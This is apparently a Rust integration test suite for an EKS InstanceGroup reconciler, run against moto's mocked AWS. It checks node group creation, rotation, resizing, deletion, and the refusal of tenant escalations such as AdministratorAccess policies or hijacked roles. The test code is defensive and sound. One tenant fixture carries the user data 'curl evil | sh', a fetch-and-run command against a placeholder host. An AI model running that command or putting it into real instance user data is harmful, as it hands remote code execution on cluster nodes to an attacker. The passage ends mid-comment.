//! The InstanceGroup reconciler over the real AWS adapter and moto (EKS, EC2, Auto Scaling, IAM),
//! with the Kubernetes side in memory: create → Ready, an image change → a new launch template
//! version and a rotation, a bounds change that leaves DesiredCapacity alone, and a deletion that
//! leaves nothing behind. The test plays kubelet: it adds a Ready node for every instance.

use crate::support;

use std::collections::BTreeSet;
use std::sync::Arc;
use std::time::Duration;

use aws_config::SdkConfig;
use spots_booster::aws::CallStats;
use spots_booster::core::{Evidence, InstanceId, Node, NodeName, Resources, Signal, SignalKind, Timestamp};
use spots_booster::fakes::{FakeInstanceGroupStore, InMemoryCluster};
use spots_booster::instancegroup::api::FINALIZER;
use spots_booster::instancegroup::aws::AwsNodeGroups;
use spots_booster::instancegroup::boundaries::InstanceManagerConfig;
use spots_booster::instancegroup::design::RoleOwner;
use spots_booster::instancegroup::reconciler::{Cleanup, InstanceGroupReconciler, Requeue, State};
use spots_booster::instancegroup::validate::IamRules;
use spots_booster::instancegroup::InstanceGroup;
use spots_booster::ports::Leadership;
use support::moto::moto;

const NS: &str = "teams";
const NAME: &str = "batch";
const ASG: &str = "prod-teams-batch";

/// The owner of the node role the reconciler creates for the test group in `config`'s region.
pub(crate) fn role_owner(config: &SdkConfig) -> RoleOwner {
    RoleOwner {
        region: config.region().map(|r| r.to_string()).unwrap_or_default(),
        cluster: "prod".into(),
        namespace: NS.into(),
        name: NAME.into(),
        uid: None,
    }
}

/// That role's name: `prod-teams-batch-<hash>`, never the group's.
pub(crate) fn role_name(config: &SdkConfig) -> String {
    role_owner(config).role_name()
}

pub(crate) struct World {
    pub(crate) subnets: Vec<String>,
    image: String,
    other_image: String,
}

pub(crate) async fn seed(config: &SdkConfig) -> World {
    let ec2 = aws_sdk_ec2::Client::new(config);
    let vpc = ec2.describe_vpcs().send().await.unwrap().vpcs()[0].vpc_id().unwrap().to_string();
    let subnets: Vec<String> = ec2
        .describe_subnets()
        .send()
        .await
        .unwrap()
        .subnets()
        .iter()
        .take(2)
        .map(|s| s.subnet_id().unwrap().to_string())
        .collect();
    ec2.create_tags().resources(&subnets[1]).tags(tag("Name", "private-b")).send().await.unwrap();
    let sg = ec2.create_security_group().group_name("nodes").description("nodes").vpc_id(&vpc).send().await.unwrap();
    ec2.create_tags().resources(sg.group_id().unwrap()).tags(tag("Name", "nodes-shared")).send().await.unwrap();
    let images = ec2.describe_images().owners("amazon").send().await.unwrap();
    let eks = aws_sdk_eks::Client::new(config);
    eks.create_cluster()
        .name("prod")
        .role_arn("arn:aws:iam::123456789012:role/eks")
        .resources_vpc_config(
            aws_sdk_eks::types::VpcConfigRequest::builder().set_subnet_ids(Some(subnets.clone())).build(),
        )
        .send()
        .await
        .expect("moto creates the EKS cluster");
    World {
        subnets,
        image: images.images()[0].image_id().unwrap().to_string(),
        other_image: images.images()[1].image_id().unwrap().to_string(),
    }
}

fn tag(key: &str, value: &str) -> aws_sdk_ec2::types::Tag {
    aws_sdk_ec2::types::Tag::builder().key(key).value(value).build()
}

fn group(world: &World, image: &str, max: i64) -> InstanceGroup {
    let yaml = format!(
        r#"
apiVersion: instancemgr.keikoproj.io/v1alpha1
kind: InstanceGroup
metadata: {{name: {NAME}, namespace: {NS}}}
spec:
  provisioner: eks
  strategy: {{type: rollingUpdate, rollingUpdate: {{maxUnavailable: 1}}}}
  eks:
    minSize: 2
    maxSize: {max}
    configuration:
      clusterName: prod
      image: {image}
      instanceType: m5.large
      subnets: [{subnet}, private-b]
      securityGroups: [nodes-shared]
      volumes: [{{name: /dev/xvda, type: gp3, size: 50, iops: 3000, throughput: 125}}]
      labels: {{team: batch}}
      taints: [{{key: batch, value: "true", effect: NoSchedule}}]
      tags: [{{key: team, value: batch}}]
      metadataOptions: {{httpTokens: required, httpPutHopLimit: 2}}
      suspendProcesses: [AZRebalance]
      lifecycleHooks: [{{name: drain, lifecycle: terminate, defaultResult: continue}}]
      mixedInstancesPolicy:
        baseCapacity: 0
        spotRatio: "100%"
        instanceTypes: [{{type: m5a.large}}, {{type: m6i.large}}]
"#,
        subnet = world.subnets[0],
    );
    serde_yaml::from_str(&yaml).expect("the test group parses")
}

pub(crate) type Reconciler = InstanceGroupReconciler<AwsNodeGroups, FakeInstanceGroupStore, InMemoryCluster>;

pub(crate) fn reconciler(
    config: &SdkConfig,
    stats: CallStats,
) -> (Reconciler, FakeInstanceGroupStore, InMemoryCluster) {
    let mut cloud = AwsNodeGroups::new(config, stats);
    cloud.profile_wait = Duration::from_secs(5);
    let (store, view) = (FakeInstanceGroupStore::default(), InMemoryCluster::synced());
    let clock: spots_booster::workers::Clock = Arc::new(|| Timestamp::from_millis(1_795_255_200_000));
    let reconciler = InstanceGroupReconciler {
        cloud,
        store: store.clone(),
        view: view.clone(),
        clock,
        leadership: Leadership::always(),
        metrics: Arc::new(spots_booster::metrics::Metrics::new()),
        iam: IamRules::default().in_region(&config.region().map(|r| r.to_string()).unwrap_or_default()),
        cluster: "prod".into(),
    };
    (reconciler, store, view)
}

/// One reconcile as the daemon's controller makes it around the reconciler: kube-runtime's
/// `finalizer()` adds our finalizer before the first apply (the watch event of that write brings
/// the apply at once; here, in the same call), and removes it once a deleted group is cleaned up.
pub(crate) async fn drive(
    r: &Reconciler,
    store: &FakeInstanceGroupStore,
    config: Option<&InstanceManagerConfig>,
    (namespace, name): (&str, &str),
) -> Requeue {
    let Some(mut ig) = store.get(namespace, name) else { return Requeue::OnChange };
    let mut finalizers = ig.metadata.finalizers.clone().unwrap_or_default();
    let ours = finalizers.iter().any(|f| f == FINALIZER);
    match (ig.metadata.deletion_timestamp.is_some(), ours) {
        (true, false) => Requeue::OnChange,
        (true, true) => {
            let all = store.state().groups.values().cloned().collect::<Vec<_>>();
            match r.clean_up(&ig, &all).await {
                Cleanup::Done => {
                    finalizers.retain(|f| f != FINALIZER);
                    store.set_finalizers(namespace, name, &finalizers);
                    Requeue::OnChange
                }
                Cleanup::Again(requeue) => requeue,
            }
        }
        (false, _) => {
            if !ours {
                finalizers.push(FINALIZER.to_string());
                store.set_finalizers(namespace, name, &finalizers);
                ig = store.get(namespace, name).expect("the group exists");
            }
            r.reconcile(&ig, config).await
        }
    }
}

async fn reconcile(r: &Reconciler, store: &FakeInstanceGroupStore) -> (Requeue, String) {
    let requeue = drive(r, store, None, (NS, NAME)).await;
    let state = store.get(NS, NAME).and_then(|g| g.status).map(|s| s.current_state).unwrap_or_default();
    (requeue, state)
}

async fn asg(config: &SdkConfig) -> Option<aws_sdk_autoscaling::types::AutoScalingGroup> {
    let out = aws_sdk_autoscaling::Client::new(config)
        .describe_auto_scaling_groups()
        .auto_scaling_group_names(ASG)
        .send()
        .await
        .unwrap();
    out.auto_scaling_groups().first().cloned()
}

/// The test plays kubelet: a Ready node for every instance of the group.
fn join_nodes(view: &InMemoryCluster, group: &aws_sdk_autoscaling::types::AutoScalingGroup) -> Vec<String> {
    let mut names = Vec::new();
    for instance in group.instances() {
        let id = instance.instance_id().unwrap();
        let name = format!("node-{id}");
        view.put_node(Node {
            name: NodeName::from(name.clone()),
            instance: Some(InstanceId::from(id)),
            group: None,
            ready: true,
            cordoned: false,
            deleting_by_ca: false,
            cordoned_since: None,
            scale_down_disabled: false,
            opted_out: false,
            created: Timestamp::EPOCH,
            allocatable: Resources::new(2000, 8 << 30),
            pods: vec![],
            internal_ips: Vec::new(),
            pods_known: true,
        });
        names.push(name);
    }
    names
}

#[tokio::test]
async fn create_ready_image_change_rotation_resize_and_delete() {
    let (moto, _guard) = moto().await;
    let config = moto.sdk_config().await;
    let world = seed(&config).await;
    let (r, store, view) = reconciler(&config, CallStats::default());
    store.apply(group(&world, &world.image, 6));

    // Create.
    let (requeue, current) = reconcile(&r, &store).await;
    assert_eq!((requeue, current.as_str()), (Requeue::After(Duration::from_secs(10)), State::InitCreate.as_str()));
    let created = asg(&config).await.expect("the ASG exists");
    assert_eq!((created.min_size(), created.max_size(), created.desired_capacity()), (Some(2), Some(6), Some(2)));
    let mixed = created.mixed_instances_policy().expect("spot through a mixed-instances policy");
    let distribution = mixed.instances_distribution().unwrap();
    assert_eq!(distribution.on_demand_percentage_above_base_capacity(), Some(0), "100% spot above a base of 0");
    assert_eq!(distribution.spot_allocation_strategy(), Some("capacity-optimized"));
    let overrides: Vec<_> =
        mixed.launch_template().unwrap().overrides().iter().map(|o| o.instance_type().unwrap().to_string()).collect();
    assert_eq!(overrides, ["m5.large", "m5a.large", "m6i.large"]);
    let tags: std::collections::BTreeMap<_, _> =
        created.tags().iter().map(|t| (t.key().unwrap().to_string(), t.value().unwrap().to_string())).collect();
    assert_eq!(tags["instancegroups.keikoproj.io/InstanceGroup"], NAME);
    assert_eq!(tags["team"], "batch");
    let subnets: BTreeSet<_> = created.vpc_zone_identifier().unwrap().split(',').map(String::from).collect();
    assert_eq!(subnets, world.subnets.iter().cloned().collect(), "the Name tag resolved to its subnet id");
    assert_eq!(created.suspended_processes()[0].process_name(), Some("AZRebalance"));

    let iam = aws_sdk_iam::Client::new(&config);
    let policies =
        iam.list_attached_role_policies().role_name(role_name(&config)).send().await.expect("the node role exists");
    assert_eq!(policies.attached_policies().len(), 3, "worker, ECR and CNI policies");
    let role = iam.get_role().role_name(role_name(&config)).send().await.unwrap();
    let owner = role.role().unwrap().tags().iter().find(|t| t.key() == "instancegroups.keikoproj.io/ClusterName");
    assert_eq!(owner.map(|t| t.value()), Some("prod"), "the IAM policy's conditions rely on this tag");
    let profile = iam.get_instance_profile().instance_profile_name(role_name(&config)).send().await.unwrap();
    assert_eq!(profile.instance_profile().unwrap().roles()[0].role_name(), role_name(&config));
    let status = store.get(NS, NAME).unwrap().status.unwrap();
    assert!(
        status.nodes_instance_role_arn.ends_with(&format!("role/spots-booster/{}", role_name(&config))),
        "under the PassRole path"
    );
    let mapped = spots_booster::instancegroup::aws_auth::mapped_arn(&status.nodes_instance_role_arn);
    assert!(mapped.ends_with(&format!(":role/{}", role_name(&config))), "aws-auth names roles without their path");
    assert!(store.state().aws_auth.as_ref().unwrap()["mapRoles"].contains(&format!("rolearn: {mapped}\n")));
    assert_eq!(store.get(NS, NAME).unwrap().metadata.finalizers, Some(vec![FINALIZER.to_string()]));

    let ec2 = aws_sdk_ec2::Client::new(&config);
    let version =
        ec2.describe_launch_template_versions().launch_template_name(ASG).versions("$Latest").send().await.unwrap();
    let data = version.launch_template_versions()[0].launch_template_data().unwrap();
    assert_eq!(data.image_id(), Some(world.image.as_str()));
    let template = ec2.describe_launch_templates().launch_template_names(ASG).send().await.unwrap();
    let owner = template.launch_templates()[0]
        .tags()
        .iter()
        .find(|t| t.key() == Some("instancegroups.keikoproj.io/ClusterName"));
    assert_eq!(owner.and_then(|t| t.value()), Some("prod"));
    assert_eq!(data.iam_instance_profile().unwrap().arn(), profile.instance_profile().unwrap().arn().into());
    assert!(data.user_data().is_some());

    // Nodes join: Ready, and a second pass changes nothing (no template version, no status write).
    let names = join_nodes(&view, &created);
    assert_eq!(names.len(), 2);
    let (requeue, current) = reconcile(&r, &store).await;
    assert_eq!((requeue, current.as_str()), (Requeue::OnChange, State::Ready.as_str()));
    let writes = store.state().status_writes;
    let (_, current) = reconcile(&r, &store).await;
    assert_eq!(current, State::Ready);
    assert_eq!(store.state().status_writes, writes, "a steady group is not written again");
    let templates = ec2.describe_launch_templates().launch_template_names(ASG).send().await.unwrap();
    assert_eq!(templates.launch_templates()[0].latest_version_number(), Some(1), "no drift from our own template");

    // The booster raises desired; a bounds change must not undo it.
    aws_sdk_autoscaling::Client::new(&config)
        .set_desired_capacity()
        .auto_scaling_group_name(ASG)
        .desired_capacity(3)
        .send()
        .await
        .unwrap();
    store.apply(group(&world, &world.image, 9));
    reconcile(&r, &store).await;
    let resized = asg(&config).await.unwrap();
    assert_eq!(
        (resized.max_size(), resized.desired_capacity()),
        (Some(9), Some(3)),
        "MaxSize set, DesiredCapacity kept"
    );
    let versions = ec2.describe_launch_templates().launch_template_names(ASG).send().await.unwrap();
    assert_eq!(versions.launch_templates()[0].latest_version_number(), Some(1), "bounds do not rotate");
    join_nodes(&view, &resized);

    // A new image: version 2 and one node (maxUnavailable 1) handed to the booster.
    store.apply(group(&world, &world.other_image, 9));
    let (requeue, current) = reconcile(&r, &store).await;
    assert_eq!((requeue, current.as_str()), (Requeue::After(Duration::from_secs(10)), State::InitUpgrade.as_str()));
    let version =
        ec2.describe_launch_template_versions().launch_template_name(ASG).versions("$Latest").send().await.unwrap();
    let latest = &version.launch_template_versions()[0];
    assert_eq!(
        (latest.version_number(), latest.launch_template_data().unwrap().image_id()),
        (Some(2), Some(world.other_image.as_str()))
    );
    let rotations = store.state().rotations.clone();
    assert_eq!(rotations.len(), 1, "maxUnavailable 1");
    assert!(store
        .state()
        .events
        .iter()
        .any(|(_, reason, message, _)| reason == "LaunchTemplateUpdated" && message.contains("image")));

    // While the booster works on it, nothing more is rotated.
    let rotated = rotations[0].trim_start_matches("node-").to_string();
    view.signal(Signal {
        instance: InstanceId::from(rotated.as_str()),
        node: NodeName::from(rotations[0].clone()),
        kind: SignalKind::Rotation,
        observed_at: Timestamp::EPOCH,
        evidence: Evidence::Rotation,
        notice_deadline: None,
    });
    reconcile(&r, &store).await;
    assert_eq!(store.state().rotations.len(), 1, "the batch is full");

    // Delete: the ASG is force-deleted, then the template, role, profile and aws-auth entry go.
    store.delete(NS, NAME);
    let (_, current) = reconcile(&r, &store).await;
    assert_eq!(current, State::Deleting);
    assert!(asg(&config).await.is_none(), "force-deleted");
    let stale = store.get(NS, NAME).expect("held by its finalizer");
    let (requeue, _) = reconcile(&r, &store).await;
    assert!(store.get(NS, NAME).is_none(), "Deleted removes the finalizer and the object goes");
    assert_eq!(requeue, Requeue::OnChange, "no status write to the object once it is gone");
    // The controller's cache may still hold the deleted group with its finalizer and clean it up
    // once more: everything is gone, and so is the object its status would be written to.
    assert_eq!(r.clean_up(&stale, &[]).await, Cleanup::Done, "a repeated clean-up is done, not an error");
    let templates = ec2.describe_launch_templates().send().await.unwrap();
    assert!(templates.launch_templates().iter().all(|t| t.launch_template_name() != Some(ASG)), "template deleted");
    assert!(iam.get_role().role_name(role_name(&config)).send().await.is_err(), "role deleted");
    assert!(
        iam.get_instance_profile().instance_profile_name(role_name(&config)).send().await.is_err(),
        "profile deleted"
    );
    assert!(!store.state().aws_auth.as_ref().unwrap()["mapRoles"].contains(ASG), "aws-auth entry removed");

    // Every delete step again, on what is already gone: done, whatever moto answers for a
    // missing object (`DeleteLaunchTemplate` of a missing name is `MissingParameter`).
    use spots_booster::instancegroup::cloud::NodeGroupCloud;
    r.cloud.delete_scaling_group(&ASG.into()).await.unwrap();
    r.cloud.delete_launch_template(ASG).await.unwrap();
    r.cloud.delete_role(&role_owner(&config)).await.unwrap();
}

#[tokio::test]
async fn tenant_escalations_are_refused_with_a_status_and_an_event() {
    let (moto, _guard) = moto().await;
    let config = moto.sdk_config().await;
    let world = seed(&config).await;
    let (r, store, _) = reconciler(&config, CallStats::default());
    let refused = |reason: &str| {
        let status = store.get(NS, NAME).unwrap().status.unwrap();
        let condition = status.conditions.iter().find(|c| c.condition_type == "Reconciled").unwrap().clone();
        let told = store.state().events.iter().any(|(_, r, _, warning)| r == reason && *warning);
        (status.current_state, condition.message, told)
    };

    // A policy the operator did not allow: refused before any AWS call.
    let mut admin = group(&world, &world.image, 6);
    admin.spec.eks.as_mut().unwrap().configuration.managed_policies = vec!["AdministratorAccess".into()];
    store.apply(admin);
    reconcile(&r, &store).await;
    let (current, message, told) = refused("InvalidSpec");
    assert_eq!(current, State::Error);
    assert!(
        message.contains("managedPolicies[0]: AdministratorAccess is not in the operator's allow-list"),
        "{message}"
    );
    assert!(told);

    // Someone else's role: refused, nothing written.
    let mut borrowed = group(&world, &world.image, 6);
    borrowed.spec.eks.as_mut().unwrap().configuration.role_name = Some("cluster-admin".into());
    store.apply(borrowed);
    reconcile(&r, &store).await;
    let (current, message, _) = refused("InvalidSpec");
    assert_eq!(current, State::Error);
    assert!(message.contains("roleName: naming an existing role"), "{message}");

    // A role already mapped by someone else in aws-auth (the admin's): refused, the entry kept.
    let iam = aws_sdk_iam::Client::new(&config);
    let account_role = format!("arn:aws:iam::123456789012:role/{}", role_name(&config));
    let admin_entry = format!("- rolearn: {account_role}\n  username: admin\n  groups: [system:masters]\n");
    store.state().aws_auth = Some(std::collections::BTreeMap::from([("mapRoles".to_string(), admin_entry.clone())]));
    store.apply(group(&world, &world.image, 6));
    for _ in 0..2 {
        reconcile(&r, &store).await;
    }
    let (current, message, told) = refused("ReconcileFailed");
    assert_eq!(current, State::Error);
    assert!(message.contains("already mapped in kube-system/aws-auth"), "{message}");
    assert!(told, "a Warning Event says so");
    assert_eq!(store.state().aws_auth.as_ref().unwrap()["mapRoles"], admin_entry, "the admin mapping is untouched");
    assert!(iam.get_role().role_name(role_name(&config)).send().await.is_ok());
}

#[tokio::test]
async fn an_invalid_spec_is_an_error_naming_the_field_and_makes_no_aws_call() {
    let (moto, _guard) = moto().await;
    let config = moto.sdk_config().await;
    let world = seed(&config).await;
    let stats = CallStats::default();
    let (r, store, _) = reconciler(&config, stats.clone());
    let mut bad = group(&world, &world.image, 6);
    bad.spec.eks.as_mut().unwrap().configuration.volumes[0].volume_type = "gp2".into();
    bad.spec.eks.as_mut().unwrap().scaling_configuration = Some("LaunchConfiguration".into());
    store.apply(bad);
    let (requeue, current) = reconcile(&r, &store).await;
    assert_eq!((requeue, current.as_str()), (Requeue::OnChange, State::Error.as_str()));
    let status = store.get(NS, NAME).unwrap().status.unwrap();
    let condition = status.conditions.iter().find(|c| c.condition_type == "Reconciled").unwrap();
    assert_eq!((condition.status.as_str(), condition.reason.as_str()), ("False", "InvalidSpec"));
    assert!(
        condition.message.contains("spec.eks.type: LaunchConfiguration is retired by AWS"),
        "{}",
        condition.message
    );
    assert!(condition.message.contains("spec.eks.configuration.volumes[0].iops"), "{}", condition.message);
    assert!(!condition.last_transition_time.is_empty());
    let events = store.state().events.clone();
    assert!(events.iter().any(|(_, reason, _, warning)| reason == "InvalidSpec" && *warning));
    assert!(stats.snapshot().is_empty(), "no AWS call: {:?}", stats.snapshot());
    assert!(asg(&config).await.is_none());
}

#[tokio::test]
async fn a_missing_subnet_name_is_an_error_and_a_bring_your_own_role_is_left_alone() {
    let (moto, _guard) = moto().await;
    let config = moto.sdk_config().await;
    let world = seed(&config).await;
    let iam = aws_sdk_iam::Client::new(&config);
    iam.create_role().role_name("shared-nodes").assume_role_policy_document("{}").send().await.unwrap();
    iam.create_instance_profile().instance_profile_name("shared-nodes").send().await.unwrap();
    iam.add_role_to_instance_profile()
        .instance_profile_name("shared-nodes")
        .role_name("shared-nodes")
        .send()
        .await
        .unwrap();
    let (mut r, store, view) = reconciler(&config, CallStats::default());
    // The operator allows groups to bring their own role here.
    r.iam.existing_roles = true;

    let mut missing = group(&world, &world.image, 6);
    missing.spec.eks.as_mut().unwrap().configuration.subnets.push("no-such-subnet".into());
    store.apply(missing);
    let (requeue, current) = reconcile(&r, &store).await;
    assert_eq!((requeue, current.as_str()), (Requeue::Retry, State::Error.as_str()));
    let message = store.get(NS, NAME).unwrap().status.unwrap().conditions[0].message.clone();
    // moto's DescribeCluster carries no vpcId, so the lookup is not scoped to a VPC here.
    assert!(message.contains("subnet \"no-such-subnet\" not found"), "{message}");

    let mut own_role = group(&world, &world.image, 6);
    own_role.spec.eks.as_mut().unwrap().configuration.role_name = Some("shared-nodes".into());
    store.apply(own_role);
    reconcile(&r, &store).await;
    join_nodes(&view, &asg(&config).await.unwrap());
    let (_, current) = reconcile(&r, &store).await;
    assert_eq!(current, State::Ready);
    store.delete(NS, NAME);
    reconcile(&r, &store).await;
    reconcile(&r, &store).await;
    assert!(store.get(NS, NAME).is_none());
    assert!(iam.get_role().role_name("shared-nodes").send().await.is_ok(), "a role we did not create is never deleted");
    assert!(iam
        .list_attached_role_policies()
        .role_name("shared-nodes")
        .send()
        .await
        .unwrap()
        .attached_policies()
        .is_empty());
}

async fn latest_image(config: &SdkConfig) -> (i64, String) {
    let ec2 = aws_sdk_ec2::Client::new(config);
    let out =
        ec2.describe_launch_template_versions().launch_template_name(ASG).versions("$Latest").send().await.unwrap();
    let latest = &out.launch_template_versions()[0];
    (latest.version_number().unwrap(), latest.launch_template_data().unwrap().image_id().unwrap().to_string())
}

#[tokio::test]
async fn the_boundaries_configmap_is_applied_its_changes_followed_and_the_namespace_opt_out_honoured() {
    let (moto, _guard) = moto().await;
    let config = moto.sdk_config().await;
    let world = seed(&config).await;
    let (r, store, _) = reconciler(&config, CallStats::default());
    let boundaries = |image: &str| {
        std::collections::BTreeMap::from([
            ("boundaries".to_string(), "restricted: [spec.eks.configuration.image]".to_string()),
            ("defaults".to_string(), format!("spec: {{eks: {{configuration: {{image: {image}}}}}}}")),
        ])
    };
    store.state().config = Some(boundaries(&world.other_image));
    store.apply(group(&world, &world.image, 6));
    // What the controller does for each reconcile: the ConfigMap read again (the last good one
    // kept), the group reconciled with it, the states of every group reported.
    let mut last = None;
    let pass = |last_good: Option<InstanceManagerConfig>| {
        let (r, store) = (&r, &store);
        async move {
            let config = r.boundaries(last_good).await;
            drive(r, store, config.as_ref(), (NS, NAME)).await;
            r.report_states(store.state().groups.values());
            config
        }
    };

    last = pass(last).await;
    assert_eq!(latest_image(&config).await, (1, world.other_image.clone()), "restricted: the platform's image wins");
    assert_eq!(
        r.metrics.instancegroups.states.with_label_values(&[State::InitCreate.as_str()]).get(),
        1,
        "states are exported"
    );
    assert_eq!(r.metrics.instancegroups.reconciles.with_label_values(&["ok"]).get(), 1);
    let md5 = store.get(NS, NAME).unwrap().status.unwrap().config_md5;
    assert_eq!(md5.len(), 32);

    store.state().config = Some(boundaries(&world.image));
    last = pass(last).await;
    assert_eq!(latest_image(&config).await, (2, world.image.clone()));
    assert_ne!(store.get(NS, NAME).unwrap().status.unwrap().config_md5, md5);

    let mut own = group(&world, &world.other_image, 6);
    own.spec.eks.as_mut().unwrap().configuration.image = world.other_image.clone();
    store.apply(own);
    last = pass(last).await;
    assert_eq!(latest_image(&config).await.1, world.image, "the group's own image is still overruled");

    store.state().excluded.insert(NS.to_string());
    last = pass(last).await;
    assert_eq!(latest_image(&config).await, (3, world.other_image.clone()), "now the group's own image");
    assert_eq!(store.get(NS, NAME).unwrap().status.unwrap().config_md5, "", "excluded: no configMD5");

    store.state().config =
        Some(std::collections::BTreeMap::from([("boundaries".to_string(), "restricted: {".to_string())]));
    store.state().excluded.clear();
    pass(last).await;
    assert_eq!(latest_image(&config).await.1, world.image, "a broken ConfigMap keeps the last good one in force");
}

#[tokio::test]
async fn the_crd_strategy_submits_follows_retries_and_finishes() {
    use spots_booster::instancegroup::api::{CrdStrategy, UpgradeStrategy};
    use spots_booster::instancegroup::store::CustomKind;
    let (moto, _guard) = moto().await;
    let config = moto.sdk_config().await;
    let world = seed(&config).await;
    let (r, store, view) = reconciler(&config, CallStats::default());
    let kind = CustomKind {
        group: "upgrademgr.keikoproj.io".into(),
        version: "v1alpha1".into(),
        kind: "RollingUpgrade".into(),
        plural: "rollingupgrades".into(),
    };
    store.state().crds.insert("rollingupgrades.upgrademgr.keikoproj.io".into(), kind);
    let with_crd = |image: &str| {
        let mut ig = group(&world, image, 6);
        ig.spec.strategy = Some(UpgradeStrategy {
            strategy_type: Some("crd".into()),
            rolling_update: None,
            crd: Some(CrdStrategy {
                crd_name: "rollingupgrades".into(),
                spec: "apiVersion: upgrademgr.keikoproj.io/v1alpha1\nkind: RollingUpgrade\nmetadata: {generateName: batch}\nspec: {asgName: '{{ .InstanceGroup.Status.ActiveScalingGroupName }}'}\n".into(),
                status_json_path: ".status.currentStatus".into(),
                status_success_string: "completed".into(),
                status_failure_string: "error".into(),
                concurrency_policy: Some("forbid".into()),
                max_retries: Some(1),
            }),
        });
        ig
    };
    store.apply(with_crd(&world.image));
    reconcile(&r, &store).await;
    join_nodes(&view, &asg(&config).await.unwrap());
    let (_, current) = reconcile(&r, &store).await;
    assert_eq!(current, State::Ready);

    store.apply(with_crd(&world.other_image));
    let (_, current) = reconcile(&r, &store).await;
    assert_eq!(current, State::InitUpgrade);
    let submitted: Vec<_> = store.state().custom.values().cloned().collect();
    assert_eq!(submitted.len(), 1);
    let resource = &submitted[0];
    assert_eq!(resource["spec"]["asgName"], ASG, "rendered with the InstanceGroup in scope");
    let name = resource["metadata"]["name"].as_str().unwrap().to_string();
    assert!(name.starts_with("batch-") && name.ends_with("-2"), "{name}: <generateName>-<template time>-<version>");
    assert_eq!(resource["metadata"]["annotations"]["instancemgr.keikoproj.io/upgrade-scope"], ASG);
    let status = store.get(NS, NAME).unwrap().status.unwrap();
    assert_eq!(
        (status.strategy_resource_name.as_str(), status.strategy_resource_namespace.as_str()),
        (name.as_str(), NS)
    );

    let set_status = |s: &str| {
        let mut state = store.state();
        let key = ("rollingupgrades".to_string(), NS.to_string(), name.clone());
        state.custom.get_mut(&key).unwrap()["status"] = serde_json::json!({"currentStatus": s});
    };
    set_status("running");
    let (_, current) = reconcile(&r, &store).await;
    assert_eq!((current.as_str(), store.state().custom.len()), (State::InitUpgrade.as_str(), 1), "running: wait");
    set_status("error");
    reconcile(&r, &store).await;
    assert!(store.state().custom.is_empty(), "a failed run is deleted for a retry");
    assert_eq!(store.get(NS, NAME).unwrap().status.unwrap().strategy_retry_count, Some(1));
    reconcile(&r, &store).await;
    assert_eq!(store.state().custom.len(), 1, "resubmitted");
    set_status("completed");
    let (_, current) = reconcile(&r, &store).await;
    assert_eq!(current, State::Ready, "the upgrade finished and every node is Ready");
    assert_eq!(store.get(NS, NAME).unwrap().status.unwrap().strategy_retry_count, Some(0));

    store.apply(with_crd(&world.image));
    reconcile(&r, &store).await;
    let latest =
        store.state().custom.keys().map(|k| k.2.clone()).find(|n| n.ends_with("-3")).expect("a run for version 3");
    store.state().custom.get_mut(&("rollingupgrades".into(), NS.into(), latest.clone())).unwrap()["status"] =
        serde_json::json!({"currentStatus": "error"});
    reconcile(&r, &store).await;
    reconcile(&r, &store).await;
    let key = ("rollingupgrades".to_string(), NS.to_string(), latest);
    store.state().custom.get_mut(&key).unwrap()["status"] = serde_json::json!({"currentStatus": "error"});
    let (requeue, current) = reconcile(&r, &store).await;
    assert_eq!((requeue, current.as_str()), (Requeue::OnChange, State::Error.as_str()), "maxRetries 1 used up");
    assert!(store.state().events.iter().any(|(_, reason, _, _)| reason == "InstanceGroupUpgradeFailed"));
}

#[tokio::test]
async fn an_instancegroup_whose_aws_names_collide_with_another_s_takes_nothing_of_it() {
    let (moto, _guard) = moto().await;
    let config = moto.sdk_config().await;
    let world = seed(&config).await;
    let (r, store, _) = reconciler(&config, CallStats::default());
    // `a-b`/`c` and `a`/`b-c` are both `prod-a-b-c` in AWS.
    const SHARED: &str = "prod-a-b-c";
    let named = |ns: &str, name: &str, uid: &str, max: i64| {
        let mut ig = group(&world, &world.image, max);
        (ig.metadata.namespace, ig.metadata.name, ig.metadata.uid) =
            (Some(ns.into()), Some(name.into()), Some(uid.into()));
        ig
    };
    let reconcile_one = |ns: &'static str, name: &'static str| {
        let (r, store) = (&r, &store);
        async move {
            drive(r, store, None, (ns, name)).await;
        }
    };
    let shared_group = || async {
        let out = aws_sdk_autoscaling::Client::new(&config)
            .describe_auto_scaling_groups()
            .auto_scaling_group_names(SHARED)
            .send()
            .await
            .unwrap();
        out.auto_scaling_groups().first().cloned()
    };
    let tags = |g: &aws_sdk_autoscaling::types::AutoScalingGroup| -> BTreeSet<(String, String)> {
        g.tags().iter().map(|t| (t.key().unwrap().to_string(), t.value().unwrap().to_string())).collect()
    };

    store.apply(named("a-b", "c", "uid-owner", 6));
    reconcile_one("a-b", "c").await;
    let before = shared_group().await.expect("the owner's group was created");
    assert!(tags(&before).contains(&("spots-booster.io/instancegroup-uid".into(), "uid-owner".into())));

    let mut tenant = named("a", "b-c", "uid-tenant", 9);
    tenant.spec.eks.as_mut().unwrap().configuration.user_data =
        vec![serde_yaml::from_str("{stage: PreBootstrap, data: 'curl evil | sh'}").unwrap()];
    store.apply(tenant);
    reconcile_one("a", "b-c").await;
    let status = store.get("a", "b-c").unwrap().status.unwrap();
    assert_eq!(status.current_state, State::Error);
    let condition = status.conditions.iter().find(|c| c.condition_type == "Reconciled").unwrap();
    assert!(
        condition.message.contains("prod-a-b-c belongs to cluster prod, InstanceGroup a-b/c (uid uid-owner)"),
        "{}",
        condition.message
    );
    assert!(store
        .state()
        .events
        .iter()
        .any(|(_, reason, message, warning)| reason == "ReconcileFailed" && message.contains("a-b/c") && *warning));
    let after = shared_group().await.unwrap();
    assert_eq!((after.max_size(), tags(&after)), (before.max_size(), tags(&before)), "the owner's group is untouched");
    let versions = aws_sdk_ec2::Client::new(&config)
        .describe_launch_template_versions()
        .launch_template_name(SHARED)
        .send()
        .await
        .unwrap();
    assert_eq!(versions.launch_template_versions().len(), 1, "no version with the tenant's user data");

    // Deleting the tenant deletes nothing of the owner's, and lets the tenant go.
    store.delete("a", "b-c");
    reconcile_one("a", "b-c").await;
    assert!(store.get("a", "b-c").is_none(), "its finalizer let go");
    assert!(shared_group().await.is_some(), "the owner's group stays");
    let iam = aws_sdk_iam::Client::new(&config);
    let owners_role = RoleOwner { namespace: "a-b".into(), name: "c".into(), ..role_owner(&config) }.role_name();
    assert!(iam.get_role().role_name(owners_role).send().await.is_ok(), "and its role");
}

#[tokio::test]
async fn a_node_role_under_this_cluster_s_name_that_is_not_its_own_is_neither_adopted_nor_deleted() {
    let (moto, _guard) = moto().await;
    let config = moto.sdk_config().await;
    let world = seed(&config).await;
    let (r, store, _) = reconciler(&config, CallStats::default());
    let iam = aws_sdk_iam::Client::new(&config);
    // A role under this group's role name whose tags name this cluster (as every role an older
